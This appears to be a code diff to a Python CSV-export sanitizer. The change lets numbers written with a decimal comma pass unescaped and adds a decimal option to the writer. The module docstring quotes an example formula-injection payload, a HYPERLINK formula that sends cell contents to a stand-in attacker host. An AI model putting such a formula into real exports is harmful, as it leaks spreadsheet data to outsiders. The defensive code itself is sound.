@@ -5,7 +5,8 @@ formula by Excel, LibreOffice and Google Sheets (CSV/formula injection, OWASP): 
 service name like ``=HYPERLINK("http://evil.example/?"&A1)`` would run on the analyst's machine.
 :func:`safe_cell` prefixes such text with ``'`` (shown as text, the way spreadsheets mark it).
 Numbers stay numbers: ints and floats, and text that is a plain number (``-0.25``, ``+3``, ``1e-3``,
-what the exports' number formatting writes), pass unchanged.
+what the exports' number formatting writes), pass unchanged — with a decimal comma too (``-0,25``)
+in a writer made with ``decimal=","`` (the console's Italian spreadsheet downloads).
 """
 from __future__ import annotations
 
@@ -17,9 +18,11 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 _NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
 
 
-def safe_cell(value: Any) -> Any:
-    """``value``, or ``"'" + value`` for text a spreadsheet would take for a formula."""
-    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
+def safe_cell(value: Any, decimal: str = ".") -> Any:
+    """``value``, or ``"'" + value`` for text a spreadsheet would take for a formula; a plain number
+    written with ``decimal`` as its decimal mark (``.`` or ``,``) is no formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_START) and \
+            not _NUMBER.fullmatch(value.replace(",", ".") if decimal == "," and "." not in value else value):
         return "'" + value
     return value
 
@@ -27,20 +30,22 @@ def safe_cell(value: Any) -> Any:
 class _SafeWriter:
     """``csv.writer`` with every cell passed through :func:`safe_cell`."""
 
-    def __init__(self, out, **kwargs):
+    def __init__(self, out, decimal: str = ".", **kwargs):
         self._w = csv.writer(out, **kwargs)
+        self._decimal = decimal
 
     def writerow(self, row: Iterable[Any]):
-        return self._w.writerow([safe_cell(v) for v in row])
+        return self._w.writerow([safe_cell(v, self._decimal) for v in row])
 
     def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
         for row in rows:
             self.writerow(row)
 
 
-def csv_writer(out, **kwargs) -> _SafeWriter:
-    """A CSV writer (same arguments as :func:`csv.writer`) whose cells are neutralized."""
-    return _SafeWriter(out, **kwargs)
+def csv_writer(out, decimal: str = ".", **kwargs) -> _SafeWriter:
+    """A CSV writer (same arguments as :func:`csv.writer`) whose cells are neutralized; ``decimal``
+    is the decimal mark of the numbers written as text (``,`` in an Italian spreadsheet's file)."""
+    return _SafeWriter(out, decimal=decimal, **kwargs)
 
 
 def fmt_value(v) -> str:
